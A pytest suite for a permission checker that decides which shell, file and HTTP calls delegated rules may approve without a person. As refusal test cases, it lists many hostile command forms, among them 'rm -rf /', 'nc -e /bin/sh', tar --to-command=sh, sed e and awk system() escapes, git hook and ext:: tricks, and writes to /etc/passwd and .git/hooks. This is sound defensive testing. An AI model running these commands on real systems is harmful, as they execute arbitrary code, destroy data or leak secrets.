"""Delegated approvals (xsky/security/delegation.py): the leader may approve a call only where
the person's delegated rules alone allow it — the same grammar as allow rules, every part of
a compound command covered, deny rules winning, nothing a role holds counting — and only a call
the checker can follow: no part may take a form that runs a program, loads code or writes files
its command does not name, or carry an option the checker does not know, whatever rule covers
it. Ordinary allow rules keep their meaning."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from xsky.plan.models import RoleCapabilityModel
from xsky.security.delegation import delegation
from xsky.security.permissions import PermissionLayer, PermissionSettings, decide
from xsky.security.program_forms import PROGRAMS, finding
from xsky.security.shell_parse import SHELLS, WRAPPERS

WS = "/ws"
NOT_RUNNING = "delegated rules never approve running programs"
NOT_WRITING = "delegated rules never approve writes hidden in a command's arguments"


def covered(command: str, *rules: str, deny: tuple[str, ...] = ()) -> tuple[bool, str]:
    return delegation("shell", {"command": command}, list(rules), list(deny), WS)


# The commands the forms below wrap or run, delegated too: so the wrapper's own form decides
# (a wrapped command no rule covers is not covered at all).
INNER = ("shell(id:*)", "shell(sed:*)")


@pytest.mark.parametrize(
    ("tool", "arguments", "delegated", "deny", "covered"),
    [
        ("shell", {"command": "make test -j2"}, ["shell(make test:*)"], [], True),
        ("shell", {"command": "make test && make deploy"}, ["shell(make test:*)"], [], False),
        ("shell", {"command": "make test; rm -rf /"}, ["shell(make test:*)"], [], False),
        (
            "shell",
            {"command": "make test --deploy"},
            ["shell(make test:*)"],
            ["shell(make test --deploy)"],
            False,
        ),
        (
            "shell",
            {"command": "curl $(cat key)"},
            ["shell(curl:*)"],
            [],
            False,
        ),  # not parsed: a person's
        ("file_write", {"path": "out/a.txt", "content": "x"}, ["file_write(out/**)"], [], True),
        ("file_write", {"path": "../x", "content": "x"}, ["file_write(**)"], [], False),
        (
            "http_get",
            {"url": "https://api.example.com/v1"},
            ["http_get(domain:example.com)"],
            [],
            True,
        ),
        ("http_get", {"url": "https://evil.test/"}, ["http_get(domain:example.com)"], [], False),
        ("mcp__fs__read_file", {"path": "a"}, ["mcp__fs"], [], True),
        ("mcp__fs__write_file", {"path": "a"}, ["mcp__fs__read_file"], [], False),
        ("mcp__fs__read_file", {"path": "a"}, ["mcp__fs"], ["mcp__fs__read_file"], False),
        ("shell", {"command": "ls"}, [], [], False),
        ("shell", {"command": "ls"}, ["not a rule ("], [], False),
    ],
)
def test_only_what_the_delegated_rules_alone_allow_is_covered(
    tool: str, arguments: dict, delegated: list[str], deny: list[str], covered: bool
) -> None:
    got, why = delegation(tool, arguments, delegated, deny, "/ws")
    assert got is covered, why
    assert why  # always says why


# -- forms that run programs (or write files) escalate, under a rule that covers them ---------

EXECUTING = [
    # sed: the e command and the s///e flag, however written; script files; w/W writes
    ("sed:*", "sed e", "sed's e command runs a program"),
    ("sed:*", "sed '1e id' notes.txt", "sed's e command"),
    ("sed:*", "sed '$!{e id\n}' f", "sed's e command"),
    ("sed:*", "sed 's/a/b/e' f", "s///e flag"),
    ("sed:*", "sed 's/a/b/ge' f", "s///e flag"),
    ("sed:*", "sed 's|a|b|e' f", "s///e flag"),
    ("sed:*", "sed 's/a/b/ g e' f", "s///e flag"),
    ("sed:*", "sed -n -e p -e 'e id' f", "sed's e command"),
    ("sed:*", "sed --expression='e id' f", "sed's e command"),
    ("sed:*", "sed --expression 1e f", "sed's e command"),
    ("sed:*", "sed -ne 'y/a/b/;e' f", "sed's e command"),
    ("sed:*", "sed -f script.sed f", "sed -f reads its script"),
    ("sed:*", "sed --file=script.sed f", "sed -f reads its script"),
    ("sed:*", "sed -n 'w out.txt' f", "sed's w command writes"),
    ("sed:*", "sed -n '1W out.txt' f", "sed's W command writes"),
    ("sed:*", "sed 's/a/b/w out.txt' f", "s///w flag writes"),
    # awk and its relatives
    ("awk:*", "awk 'BEGIN{system(\"id\")}'", "system()"),
    ("gawk:*", "gawk 'BEGIN{system(\"id\")}'", "system()"),
    ("mawk:*", "mawk '{ \"id\" | getline x }'", "pipes"),
    ("awk:*", "awk '{ print | \"sh\" }' f", "pipes"),
    ("awk:*", "awk '{ print |& \"sh\" }' f", "pipes"),
    ("awk:*", "awk -f prog.awk f", "awk -f reads its program"),
    ("awk:*", "awk -fprog.awk f", "awk -f reads its program"),
    ("awk:*", "awk --file=prog.awk f", "awk -f reads its program"),
    ("awk:*", "awk -W exec prog.awk", "awk -W exec"),
    ("gawk:*", "gawk '@load \"x\"; BEGIN{}'", "@load"),
    ("gawk:*", "gawk -l ext 'BEGIN{}'", "load extensions"),
    ("awk:*", "awk '{ print > \"out\" }' f", "writes the file"),
    # tar
    ("tar:*", "tar --checkpoint=1 --checkpoint-action=exec=id -cf a.tar d", "checkpoint"),
    ("tar:*", "tar -xf a.tar --to-command=sh", "--to-command"),
    ("tar:*", "tar -xf a.tar --to-com=sh", "--to-command"),
    ("tar:*", "tar --use-compress-program=sh -xf a.tar", "-I/--use-compress-program"),
    ("tar:*", "tar -I sh -xf a.tar", "-I/--use-compress-program"),
    ("tar:*", "tar cIf sh a.tar d", "-I/--use-compress-program"),
    ("tar:*", "tar --rsh-command=/bin/sh -cf h:a.tar d", "remote-shell"),
    ("tar:*", "tar -cf a.tar -F ./next.sh d", "end of each volume"),
    ("tar:*", "tar --info-script=./n.sh -cf a.tar d", "end of each volume"),
    ("tar:*", "tar --new-volume-script=./n.sh -cf a.tar d", "end of each volume"),
    ("tar:*", "tar -xf host:a.tar", "another machine"),
    ("tar:*", "tar -xPf a.tar", "absolute names"),
    # writing what an archive, a diff or a merged folder names, beside .git/ (hooks)
    ("tar:*", "tar -xf e.tar", "tar -x writes the files its archive names"),
    ("tar:*", "tar xzf e.tgz", "tar -x writes"),
    ("tar:*", "tar -xf e.tar -C .", "tar -x writes"),
    ("unzip:*", "unzip e.zip", "unzip writes the files its archive names"),
    ("cpio:*", "cpio -idv", "cpio -i extracts"),
    ("ar:*", "ar x lib.a", "ar x extracts"),
    ("7z:*", "7z x e.7z", "7z x writes"),
    ("patch:*", "patch -p1 -i fix.diff", "patch writes the files its diff names"),
    ("cp:*", "cp -r evil/. .", "cp merges a folder's contents"),
    ("cp:*", "cp -rT evil .", "cp merges a folder's contents"),
    ("rsync:*", "rsync -a evil/ ./", "rsync merges a folder's contents"),
    # find, xargs, env, wrappers
    ("find:*", "find . -exec id ;", "find -exec"),
    ("find:*", "find . -execdir id {} +", "find -exec"),
    ("find:*", "find . -ok id ;", "find -exec"),
    ("find:*", "find . -name x -delete", "removes every file"),
    ("find:*", "find . -fprint out.txt", "write the file"),
    ("xargs:*", "xargs sed -n p", "xargs runs the command"),
    ("env:*", "env sed -n p f", "env runs the command"),
    ("env:*", "env -S 'sed -n p f'", "env -S"),
    ("timeout:*", "timeout 5 sed -n p f", "timeout runs the command"),
    ("nice:*", "nice sed -n p f", "nice runs the command"),
    ("nohup:*", "nohup sed -n p f", "nohup runs"),
    ("stdbuf:*", "stdbuf -oL sed -n p f", "stdbuf runs"),
    ("setsid:*", "setsid sed -n p f", "setsid runs"),
    ("flock:*", "flock l -c 'sed -n p f'", "flock runs"),
    ("watch:*", "watch sed -n p f", "watch runs"),
    ("busybox:*", "busybox sed -n p f", "busybox runs"),
    ("bash:*", "bash -c 'sed -n p f'", "bash runs"),
    ("bash:*", "bash script.sh", "bash runs"),
    # git
    ("git:*", "git -c core.pager=id log", "git -c"),
    ("git:*", "git -ccore.sshCommand=id fetch", "git -c"),
    ("git:*", "git --config-env=core.pager=X log", "git -c"),
    ("git:*", "git --exec-path=. status", "git -c"),
    ("git:*", "git config core.fsmonitor ./x", "git config core.fsmonitor"),
    ("git:*", "git config --global alias.st '!id'", "git config alias.st"),
    ("git:*", "git config diff.external ./x", "git config diff.external"),
    ("git:*", "git fetch --upload-pack=id origin", "--upload-pack"),
    ("git:*", "git clone -u id repo", "--upload-pack"),
    ("git:*", "git push --receive-pack=id origin", "--receive-pack"),
    ("git:*", "git clone 'ext::sh -c id' d", "ext:: transport"),
    ("git:*", "git difftool -x id", "git difftool"),
    ("git:*", "git mergetool", "git mergetool"),
    ("git:*", "git bisect run id", "git bisect run"),
    ("git:*", "git rebase --exec id main", "git rebase --exec"),
    ("git:*", "git rebase -x id main", "git rebase --exec"),
    ("git:*", "git rebase -i main", "opens an editor"),
    ("git:*", "git submodule foreach id", "git submodule foreach"),
    ("git:*", "git filter-branch --tree-filter id", "git filter-branch"),
    ("git:*", "git grep -O./x foo", "git grep -O"),
    ("git:*", "git commit", "opens an editor"),
    ("git:*", "git commit --amend", "opens an editor"),
    # network tools with program options
    ("rsync:*", "rsync -e ./x a h:b", "rsync -e"),
    ("rsync:*", "rsync -avze ./x a h:b", "rsync -e"),
    ("rsync:*", "rsync --rsync-path=./x a h:b", "rsync -e"),
    ("scp:*", "scp -o ProxyCommand=id a h:b", "scp -o proxycommand"),
    ("scp:*", "scp -S ./x a h:b", "scp -S"),
    ("scp:*", "scp -F cfg a h:b", "scp -F"),
    ("ssh:*", "ssh host id", "ssh runs programs"),
    ("ssh:*", "ssh -o ProxyCommand=id host", "ssh runs programs"),
    ("zip:*", "zip -TT ./x a.zip f", "zip -TT"),
    ("zip:*", "zip -rTT ./x a.zip d", "zip -TT"),
    ("zip:*", "zip --unzip-command=./x -T a.zip f", "zip -TT"),
    ("sort:*", "sort --compress-program=./x f", "sort --compress-program"),
    ("sort:*", "sort -o out f", "sort -o writes"),
    ("split:*", "split --filter=./x f", "split --filter"),
    ("wget:*", "wget -e use_proxy=on u", "wget -e"),
    ("wget:*", "wget --execute=x u", "wget -e"),
    ("curl:*", "curl -K cfg u", "curl -K"),
    ("openssl:*", "openssl req -engine ./x.so", "openssl -engine"),
    ("openssl:*", "openssl req -config evil.cnf", "openssl -config"),
    ("tcpdump:*", "tcpdump -w a.pcap -z ./x", "tcpdump -z"),
    ("rg:*", "rg --pre ./x foo", "rg --pre"),
    ("install:*", "install -s --strip-program=./x a b", "--strip-program"),
    # pagers, editors, REPLs with shell escapes
    ("less:*", "less f", "less can run shell commands"),
    ("more:*", "more f", "more can run"),
    ("man:*", "man ls", "man can run"),
    ("vim:*", "vim f", "vim can run"),
    ("vi:*", "vi f", "vi can run"),
    ("ed:*", "ed f", "ed can run"),
    ("sqlite3:*", "sqlite3 db", "sqlite3 can run"),
    # (strace's command is checked as the command it is since the third review: `id` here,
    # which a rule of INNER covers; strace itself still runs programs)
    ("strace:*", "strace -o '|sh' id", "strace runs the command"),
    ("ld.so:*", "ld.so ./x", "ld.so runs"),
    # make, package managers, interpreters
    ("make:*", "make -f other.mk", "make -f"),
    ("make:*", "make --eval='x:;id' x", "make -f/--eval"),
    ("make:*", "make SHELL=./x test", "make SHELL="),
    ("make:*", "make MAKEFLAGS=--eval=x test", "make MAKEFLAGS="),
    ("npm:*", "npm exec foo", "runs a package's program"),
    ("npm:*", "npm x foo", "runs a package's program"),
    ("npx:*", "npx foo", "npx runs the command"),
    ("npm:*", "npm install", "install scripts"),
    ("npm:*", "npm ci", "install scripts"),
    ("npm:*", "npm --script-shell=./x test", "--script-shell"),
    ("npm:*", "npm config set script-shell ./x", "changes configuration"),
    ("yarn:*", "yarn dlx foo", "runs a package's program"),
    ("yarn:*", "yarn add foo", "install scripts"),
    ("pnpm:*", "pnpm exec foo", "runs a package's program"),
    ("pnpm:*", "pnpm dlx foo", "runs a package's program"),
    ("pip:*", "pip install foo", "pip install"),
    ("pip3:*", "pip3 download foo", "pip install"),
    ("python:*", "python -m pip install foo", "pip install"),
    ("python3:*", "python3 -c 'import os'", "python -c runs the code"),
    ("python:*", "python", "runs the code it reads from its input"),
    ("python:*", "python -", "runs the code it reads from its input"),
    ("python:*", "python -i x.py", "python -i"),
    ("perl:*", "perl -e 'system(1)'", "perl -e runs the code"),
    ("perl:*", "perl -ne print f", "perl -e runs the code"),
    ("perl:*", "perl -MPOSIX x.pl", "perl -M loads code"),
    ("ruby:*", "ruby -e 'x'", "ruby -e"),
    ("node:*", "node -e 'x'", "node -e"),
    ("node:*", "node --eval=x", "node -e"),
    ("node:*", "node -r ./x.js app.js", "node -r loads code"),
    ("php:*", "php -r 'x'", "php -r"),
    ("uv:*", "uv run pytest", "uv runs programs"),
    ("uvx:*", "uvx ruff", "uvx runs"),
    ("go:*", "go test -exec ./x ./...", "go -toolexec"),
    ("go:*", "go build -toolexec=./x", "go -toolexec"),
    ("go:*", "go generate ./...", "go generate"),
    ("cargo:*", "cargo --config 'target.x.runner=\"id\"' run", "cargo --config"),
    ("gcc:*", "gcc -fplugin=./x.so a.c", "-fplugin"),
    ("gcc:*", "gcc -wrapper ./x a.c", "-wrapper"),
    ("docker:*", "docker run img id", "docker runs programs"),
    ("kubectl:*", "kubectl exec pod -- id", "kubectl runs programs"),
    ("groff:*", "groff -U f", "unsafe"),
    ("gs:*", "gs -dNOSAFER f.ps", "gs -dNOSAFER"),
    ("gs:*", "gs -sOutputFile=%pipe%id f.ps", "as a program"),
    ("convert:*", "convert '|id' out.png", "as a program"),
    ("socat:*", "socat - EXEC:id", "EXEC:"),
    ("nc:*", "nc -e /bin/sh h 1", "nc -e"),
    ("pandoc:*", "pandoc --filter ./x a.md", "pandoc filters"),
    ("pdflatex:*", "pdflatex -shell-escape a.tex", "-shell-escape"),
    ("exiftool:*", "exiftool -if '$x' f", "exiftool -if"),
    ("exiftool:*", "exiftool '-p${x;system(1)}' f", "exiftool"),
    ("patch:*", "patch -e f d.ed", "patch -e"),
    ("sdiff:*", "sdiff --diff-program=./x a b", "sdiff --diff-program"),
    ("svn:*", "svn diff --diff-cmd ./x", "svn --editor-cmd"),
    ("hg:*", "hg --config hooks.pre-log=id log", "hg --config"),
    # the shell itself
    ("source:*", "source x.sh", "runs the commands of a file"),
    ("export:*", "export TAR_OPTIONS=--to-command=sh", "changes what the commands after it run"),
    ("alias:*", "alias ls=id", "changes what the commands after it run"),
    ("trap:*", "trap id EXIT", "changes what the commands after it run"),
    ("hash:*", "hash -p ./x ls", "changes what the commands after it run"),
]


@pytest.mark.parametrize(("rule", "command", "says"), EXECUTING)
def test_a_delegated_rule_never_approves_a_form_that_runs_a_program(
    rule: str, command: str, says: str
) -> None:
    got, why = covered(command, f"shell({rule})", *INNER)
    assert got is False, why
    assert says in why
    assert NOT_RUNNING in why or NOT_WRITING in why


@pytest.mark.parametrize(("rule", "command", "says"), EXECUTING)
def test_the_same_form_is_refused_even_when_the_rule_names_it_exactly(
    rule: str, command: str, says: str
) -> None:
    got, why = covered(command, f"shell(={command})", f"shell({rule})", *INNER)
    assert got is False, why
    assert says in why


HARMLESS = [
    ("sed:*", "sed -n 1,5p f"),
    ("sed:*", "sed -i s/a/b/g f"),
    ("sed:*", "sed -i.bak -E 's/(a|b)/x/g' f"),
    ("sed:*", "sed -n '/start/,/end/p' f"),
    ("sed:*", "sed 's/e/w/' f"),  # e and w as data
    ("sed:*", "sed '1a e id' f"),  # appends the text "e id"
    ("sed:*", "sed -e '1i\\' -e 'e id' f"),  # inserts the line "e id"
    ("sed:*", "sed -n 'w /dev/stdout' f"),
    ("sed:*", "sed -n '/x/{p;q}' f"),
    ("sed:*", "sed ':a;N;$!ba;s/\\n/ /g' f"),
    ("sed:*", "sed 'y/abc/xyz/' f"),
    ("sed:*", "sed -- 's/a/b/' f"),
    ("awk:*", "awk '{print $1}' f"),
    ("awk:*", "awk -F, '{print $2}' f"),
    ("awk:*", "awk -F : -v OFS=, '$3 > 100 {print $1, $3}' f"),
    ("awk:*", "awk 'NR>1 && $2 != \"x\" {n++} END {print n}' f"),
    ("tar:*", "tar -czf a.tgz dir"),
    ("tar:*", "tar czf a.tgz dir"),
    ("tar:*", "tar -xzf a.tgz -C out"),
    ("tar:*", "tar --exclude=.cache -cJf a.txz src"),
    ("tar:*", "tar -tvf a.tar"),
    ("tar:*", "tar -cf ./h:a.tar d"),  # a local file with a colon
    ("tar:*", "tar -xOf a.tar notes.txt"),  # to standard output
    ("unzip:*", "unzip -l a.zip"),
    ("unzip:*", "unzip a.zip -d out"),
    ("patch:*", "patch -d vendor -p1 -i fix.diff"),
    ("cp:*", "cp -r src dst"),
    ("git:*", "git ls-files -z"),
    ("git:*", "git merge-base main HEAD"),
    ("git status", "git status"),
    ("git status:*", "git status -sb"),
    ("git log:*", "git log --oneline -5"),
    ("git log:*", "git -C sub log --format=%H -n3"),
    ("git:*", "git diff --stat HEAD~1"),
    ("git:*", "git commit -m 'fix the parser'"),
    ("git:*", "git commit -am fix"),
    ("git:*", "git config user.email a@b.c"),
    ("git:*", "git config --get core.pager"),
    ("git:*", "git tag -a v1 -m release"),
    ("git:*", "git branch -a"),
    ("find:*", "find . -name x"),
    ("find:*", "find . -type f -name '*.py' -newer setup.py -print0"),
    ("find:*", "find src -maxdepth 2 \\( -name a -o -name b \\) -printf '%p\\n'"),
    ("make test:*", "make test -j2"),
    ("make test:*", "make -C sub test --no-print-directory"),
    ("make:*", "make -j4"),  # the default goal
    ("ls:*", "ls -la"),
    ("grep:*", "grep -rn --include='*.py' foo src"),
    ("head:*", "head -5 f"),
    ("curl:*", "curl -sSfL -o out.json https://example.com/a"),
    ("wget:*", "wget -q -O out https://example.com/a"),
    ("rsync:*", "rsync -avz --delete src/ dst/"),
    ("zip:*", "zip -r a.zip dir"),
    ("sort:*", "sort -k2,2n -t, f"),
    ("npm:*", "npm test"),
    ("npm run build:*", "npm run build -- --watch"),
    ("npm:*", "npm ci --ignore-scripts"),
    ("pip:*", "pip list --outdated"),
    ("python:*", "python script.py -c x"),  # -c after the script is the script's
    ("python -m pytest:*", "python -m pytest -x"),
    ("pytest:*", "pytest tests/unit"),
    ("dd:*", "dd if=a of=b bs=1M"),
    ("echo:*", "echo hi > notes.txt"),
    ("LC_ALL", "LC_ALL=C ls"),
]


@pytest.mark.parametrize(("rule", "command"), HARMLESS)
def test_harmless_calls_of_the_same_programs_are_still_approved(rule: str, command: str) -> None:
    rules = ["shell(ls:*)"] if rule == "LC_ALL" else [f"shell({rule})"]
    got, why = covered(command, *rules)
    assert got is True, why
    assert why.startswith("within the delegated rule")


# -- options: the table's safe ones, the rule's own, and nothing else --------------------------


@pytest.mark.parametrize(
    ("command", "rules", "ok", "says"),
    [
        ("tar --foo -cf a.tar d", ["shell(tar:*)"], False, "option --foo of tar is not known"),
        ("tar -cqf a.tar d", ["shell(tar:*)"], False, "option -q of tar is not known"),
        ("tar --foo -cf a.tar d", ["shell(tar --foo:*)"], True, ""),
        ("sed --weird p f", ["shell(sed:*)"], False, "option --weird of sed"),
        ("git log --output=x", ["shell(git log:*)"], False, "option --output of git log"),
        ("git st", ["shell(git:*)"], False, "git st is no git command the checker knows"),
        ("git lfs pull", ["shell(git lfs:*)"], True, ""),
        ("pytest -x", ["shell(pytest:*)"], False, "shell(pytest -x:*)"),
        ("pytest -x", ["shell(pytest -x:*)"], True, ""),
        ("pytest -x tests/a.py", ["shell(pytest -x:*)"], True, ""),
        ("pytest -x -k slow", ["shell(pytest -x:*)"], False, "option -k of pytest"),
        # a program the table does not know: its option words are read whole
        ("pytest -xq", ["shell(pytest:*)", "shell(pytest -x:*)"], False, "option -xq of pytest"),
        ("pytest -xq", ["shell(pytest -xq:*)"], True, ""),
        ("pytest --maxfail=1", ["shell(pytest --maxfail=1:*)"], True, ""),
        (
            "pytest --maxfail=9",
            ["shell(pytest:*)", "shell(pytest --maxfail=1)"],
            False,
            "--maxfail",
        ),
        ("pytest --maxfail=9", ["shell(pytest --maxfail=*)"], True, ""),
        ("pytest --maxfail 9", ["shell(pytest --maxfail:*)"], True, ""),
        ("pytest -x", ["shell(=pytest -x)"], True, ""),
        ("pytest -- -x", ["shell(pytest:*)"], True, ""),  # after --, nothing is an option
        ("ls -- -la", ["shell(ls:*)"], True, ""),
        ("tar -czf a.tgz -- --to-command=sh", ["shell(tar:*)"], True, ""),
        ("sed -n -- 1p f", ["shell(sed:*)"], True, ""),
        ("sed -n -- e f", ["shell(sed:*)"], False, "sed's e command"),  # still sed's script
        ("make test V=1", ["shell(make test:*)"], False, "make variable V=1"),
        ("make test V=1", ["shell(make test V=1:*)"], True, ""),
        # make targets and package scripts pick the code that runs: the rule must name them
        ("make test deploy", ["shell(make test:*)"], False, "make target 'deploy'"),
        ("make deploy", ["shell(make:*)"], False, "make target 'deploy'"),
        ("npm run build", ["shell(npm:*)"], False, "runs the package script 'build'"),
        ("npm run build -- --watch", ["shell(npm run build:*)"], True, ""),
        ("yarn build", ["shell(yarn:*)"], False, "runs the package script 'build'"),
        ("yarn build", ["shell(yarn build:*)"], True, ""),
        ("yarn", ["shell(yarn:*)"], False, "install scripts"),
        ("python -m http.server", ["shell(python:*)"], False, "python -m http.server"),
        ("mytool --yes", ["shell(mytool:*)", "shell(mytool --yes:*)"], True, ""),
    ],
)
def test_unknown_options_escalate_and_options_the_rule_writes_are_known(
    command: str, rules: list[str], ok: bool, says: str
) -> None:
    got, why = covered(command, *rules)
    assert got is ok, why
    assert says in why


def test_combined_short_options_are_read_letter_by_letter_for_programs_the_table_knows() -> None:
    assert covered("tar -czvf a.tgz d", "shell(tar:*)")[0]
    assert covered("ls -lah", "shell(ls:*)")[0]
    # -f takes the rest of the word, -e the next word: each read as GNU getopt reads it
    assert covered("tar -xzfa.tgz -C out", "shell(tar:*)")[0]
    assert not covered("sed -ne e f", "shell(sed:*)")[0]
    # sed -i takes only an attached suffix: -in is -i with the suffix "n", and "e" is the script
    assert not covered("sed -in e f", "shell(sed:*)")[0]


# -- compound commands, wrappers, the shell's own expansions ------------------------------------


@pytest.mark.parametrize(
    ("command", "rules", "says"),
    [
        ("sed -n p f && sed e", ["shell(sed:*)"], "sed's e command"),
        ("sed -n p f; sed -n '1e id' f", ["shell(sed:*)"], "sed's e command"),
        ("cat f | sed 's/x/y/e'", ["shell(sed:*)", "shell(cat:*)"], "s///e flag"),
        ("echo $(sed e)", ["shell(sed:*)", "shell(echo:*)"], "sed's e command"),
        ("env sed e", ["shell(sed:*)", "shell(env:*)"], "env runs the command"),
        ("env A=1 sed -n p f", ["shell(sed:*)", "shell(env:*)"], "env runs the command"),
        ('bash -c "sed e"', ["shell(sed:*)", "shell(bash:*)"], "bash runs the commands"),
        ("sh -c 'sed -n p f'", ["shell(sed:*)", "shell(sh:*)"], "sh runs the commands"),
        ("find . | xargs sed -n p", ["shell(sed:*)", "shell(find:*)", "shell(xargs:*)"], "xargs"),
        ("timeout 9 sed -n p f", ["shell(sed:*)", "shell(timeout:*)"], "timeout runs"),
        (
            "watch 'sed -n p f'",
            ["shell(sed:*)", "shell(watch:*)"],
            "watch runs the command",
        ),
    ],
)
def test_every_part_counts_and_wrappers_never_pass(
    command: str, rules: list[str], says: str
) -> None:
    got, why = covered(command, *rules)
    assert got is False, why
    assert says in why


def test_a_wrapped_command_not_covered_itself_is_not_covered_at_all() -> None:
    assert covered('bash -c "sed e"', "shell(sed:*)") == (
        False,
        "no delegated rule covers this call",
    )


@pytest.mark.parametrize(
    ("command", "rule", "says"),
    [
        ("TAR_OPTIONS=--to-command=sh tar -tf a.tar", "tar:*", "TAR_OPTIONS= set for tar"),
        ("MAKEFLAGS=--eval=x make test", "make test:*", "MAKEFLAGS= set for make"),
        ('sed "$S" f', "sed:*", "only known when the command runs"),
        ("sed -n p `echo f`", "sed:*", "only known when the command runs"),
        ("tar -czf a.tgz *", "tar:*", "the shell expands '*' into file names"),
        ("tar -czf a.tgz ''*.txt", "tar:*", "the shell expands"),
        ("tar -czf a.tgz {-a,b}", "tar:*", "the shell expands"),
        ("sed s/a/b/* f", "sed:*", "characters the shell expands"),
        ("cp x .git/hooks/pre-commit", "cp:*", "the folder .git/"),
        ("cp -r hooks .git", "cp:*", "the folder .git/"),
        ("cp x ~/.bashrc", "cp:*", "the home folder"),
        ("cp cfg .cargo/config.toml", "cp:*", "the folder .cargo/"),
        ("cp evil.pth .venv/lib/python3.11/site-packages/", "cp:*", "evil.pth"),
        ("cp x .gi?/hooks/pre-commit", "cp:*", "the folder .git/"),
        ("cp x .[g]it/hooks/pre-commit", "cp:*", "the folder .git/"),
        ("cp x .np*rc", "cp:*", "the configuration file .npmrc"),
        ("echo 'script-shell=./x' > .npmrc", "echo:*", "the configuration file .npmrc"),
        ("sed -i s/a/b/ .gitconfig", "sed:*", "the configuration file .gitconfig"),
        ("./sed -n 1p f", "sed:*", "runs the program at that path, not the system's sed"),
        ("bin/sed -n 1p f", "sed:*", "not the system's sed"),
        ("/ws/sed -n 1p f", "sed:*", "not the system's sed"),
        ("/usr/bin/../../ws/sed -n 1p f", "sed:*", "not the system's sed"),
    ],
)
def test_run_time_words_configuring_places_and_programs_by_path_escalate(
    command: str, rule: str, says: str
) -> None:
    got, why = covered(command, f"shell({rule})", "shell(echo:*)")
    assert got is False, why
    assert says in why
    assert "a person decides" in why


def test_a_system_program_named_by_its_path_is_the_program_its_rule_names() -> None:
    assert covered("/usr/bin/sed -n 1p f", "shell(sed:*)")[0]
    assert covered("/bin/ls -la", "shell(ls:*)")[0]


def test_globs_that_cannot_begin_a_word_and_globs_after_a_double_dash_are_fine() -> None:
    assert covered("tar -czf a.tgz ./*", "shell(tar:*)")[0]
    assert covered("tar -czf a.tgz src/*.py", "shell(tar:*)")[0]
    assert covered("tar -czf a.tgz -- *", "shell(tar:*)")[0]
    assert covered("grep -rn foo '*.py'", "shell(grep:*)")[0]  # quoted: a literal


def test_a_deny_rule_still_wins_over_a_delegated_rule() -> None:
    got, why = covered("sed -n 1p f", "shell(sed:*)", deny=("shell(sed -n:*)",))
    assert (got, why) == (False, "a deny rule holds: 'shell(sed -n:*)'")


def test_a_refusal_of_the_checker_keeps_its_own_reason() -> None:
    got, why = covered("echo 'unterminated", "shell(echo:*)")
    assert not got and "cannot fully understand" in why
    got, why = covered("echo hi > /etc/passwd", "shell(echo:*)")
    assert not got and "outside the run's workspace" in why


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("uv run:*", "uv run pytest"),
        ("docker:*", "docker ps"),
        ("npx:*", "npx prettier --check ."),
        ("python3:*", "python3 -c 'print(1)'"),  # an interpreter's rule: code however given
    ],
)
def test_a_prefix_rule_for_a_program_that_runs_others_allows_what_it_names(
    rule: str, command: str
) -> None:
    role = RoleCapabilityModel(name="r", requested_tools=["shell"])
    rules = PermissionSettings(layers=[PermissionLayer(scope="user", allow=[f"shell({rule})"])])
    assert decide("shell", {"command": command}, role, rules, WS).effect == "allow"


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("sed:*", "sed e"),
        ("sort:*", "sort -S 1K -T . --compress-program=sh cmds.txt"),
        ("awk:*", "awk 'BEGIN{system(\"id\")}'"),
        ("tar:*", "tar -xf a.tar --to-command=sh"),
        ("sed:*", "sed -n '1e id' f"),
    ],
)
def test_a_prefix_rule_in_settings_allows_a_program_not_a_form_of_it_that_runs_another(
    rule: str, command: str
) -> None:
    """`allow shell(sed:*)` in settings allows sed's ordinary calls; a form that runs another
    program is asked for, as docs/permissions.md says, unless a rule names that form."""
    role = RoleCapabilityModel(name="r", requested_tools=["shell"])
    rules = PermissionSettings(layers=[PermissionLayer(scope="user", allow=[f"shell({rule})"])])
    decision = decide("shell", {"command": command}, role, rules, WS)
    assert decision.effect == "ask" and repr(f"shell({rule})") in decision.reason, decision
    program = command.split()[0]
    ordinary = {"sed": "sed -n 1,5p f", "sort": "sort -o out.txt in.txt", "awk": "awk '{print $1}' f", "tar": "tar -xf a.tar"}[program]  # fmt: skip
    assert decide("shell", {"command": ordinary}, role, rules, WS).effect == "allow"
    words = " ".join(shlex.split(command))  # (an exact rule is matched on the command's words)
    exact = PermissionSettings(layers=[PermissionLayer(scope="user", allow=[f"shell({words})"])])
    assert decide("shell", {"command": command}, role, exact, WS).effect == "allow"
    assert covered(command, f"shell({rule})")[0] is False  # delegated: never, as before


# -- the table --------------------------------------------------------------------------------


def test_every_wrapper_and_shell_the_parser_unwraps_is_one_the_table_refuses() -> None:
    for name in [*WRAPPERS, *SHELLS]:
        program = PROGRAMS.get(name)
        found = finding([name, "sed", "-n", "p"])
        assert program is not None and found is not None and found.kind == "runs", name


# -- a property: a form anywhere makes the whole call a person's --------------------------------

FORMS = [command for _, command, _ in EXECUTING if "'" not in command and '"' not in command]
PLAIN = ["sed -n 1p f", "ls -la", "git status", "tar -czf a.tgz d", "find . -name x", "head -5 f"]
EVERY_RULE = [f"shell({c.split()[0]}:*)" for c in FORMS + PLAIN]


@settings(max_examples=200, deadline=None)
@given(
    before=st.lists(st.sampled_from(PLAIN), max_size=3),
    form=st.sampled_from(FORMS),
    after=st.lists(st.sampled_from(PLAIN), max_size=3),
    joins=st.lists(st.sampled_from([" && ", "; ", " | ", " || ", "\n"]), min_size=6, max_size=6),
)
def test_any_call_holding_a_form_is_never_covered(
    before: list[str], form: str, after: list[str], joins: list[str]
) -> None:
    parts = [*before, form, *after]
    command = parts[0] + "".join(j + p for j, p in zip(joins, parts[1:], strict=False))
    got, why = covered(command, *EVERY_RULE)
    assert got is False, (command, why)
    plain_only = parts[0] if parts[0] != form else "ls -la"
    assert covered(plain_only, *EVERY_RULE)[0] is True  # the same rules cover the plain parts


def test_a_run_started_before_the_program_forms_keeps_the_rules_words_alone() -> None:
    """Leaders of runs started before v0.5.0 replay their delegated approvals as they made them
    (patch delegation-program-forms): ``programs=False`` reads the rules' words alone."""
    rules = ["shell(sed:*)"]
    assert delegation("shell", {"command": "sed e"}, rules, [], programs=False) == (
        True,
        "within the delegated rule 'shell(sed:*)'",
    )
    covered, why = delegation("shell", {"command": "sed e"}, rules, [])
    assert not covered and "sed" in why
